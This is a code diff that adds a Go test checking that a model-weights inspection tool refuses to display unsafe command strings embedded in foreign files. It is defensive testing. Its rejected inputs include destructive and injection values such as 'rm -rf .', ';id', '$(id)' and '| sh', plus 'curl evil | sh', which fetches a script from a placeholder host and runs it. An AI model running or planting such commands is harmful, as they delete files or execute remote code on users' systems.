@@ -8,6 +8,9 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"github.com/heft-ml/heft/inspect"
+	"github.com/heft-ml/heft/lab/same"
 )
 
 func TestLabSameTrainsTwoAndComparesTheirFilesAgain(t *testing.T) {
@@ -54,6 +57,34 @@ func TestLabSameOfForeignWeightsSaysThatTheyHaveNoRecipe(t *testing.T) {
 	code, text, errs := command("lab", "same", file, file, "--out", out)
 	require.Equal(t, exitOK, code, errs)
 	assert.Contains(t, strings.Join(strings.Fields(text), " "), "other.safetensors has no recipe of a run.")
+}
+
+// Whatever a foreign file has in place of the command, no reader is told to run it.
+func TestCommandsOfForeignFilesAreNotShown(t *testing.T) {
+	t.Parallel()
+	shown := func(line string) (command string, ok bool) {
+		f, err := inspect.Open(weights(t, map[string]string{same.CommandKey: line}))
+		require.NoError(t, err)
+		defer f.Close()
+		return labCommand(f)
+	}
+	data := same.DefaultPair()
+	data.Data = [2]string{"csv:it's mine.csv", "moons"}
+	for _, line := range []string{same.DefaultPair().Command(), data.Command(), "heft lab same --data 'csv:my; table.csv' --lr 1e-3"} {
+		command, ok := shown(line)
+		assert.True(t, ok, line)
+		assert.Equal(t, line, command)
+	}
+	for _, line := range []string{
+		"", "rm -rf .", "heft lab same; rm -rf .", "heft lab same --data moons;id", "heft lab same $(id)", "heft lab same `id`", "heft lab same 'a' | sh", "heft lab same > x",
+		"heft lab same '", "heft lab same \\;id", "heft lab same\nid", "heft lab same '\n'", "heft lab same '\x1b[2J'", "heft lab samesame", "heft lab same " + strings.Repeat("a", longestCommand),
+	} {
+		_, ok := shown(line)
+		assert.False(t, ok, line)
+	}
+	code, _, errs := command("eval", weights(t, map[string]string{same.CommandKey: "curl evil | sh"}))
+	assert.NotEqual(t, exitOK, code)
+	assert.NotContains(t, errs, "evil")
 }
 
 func TestLabSameComparesRuns(t *testing.T) {
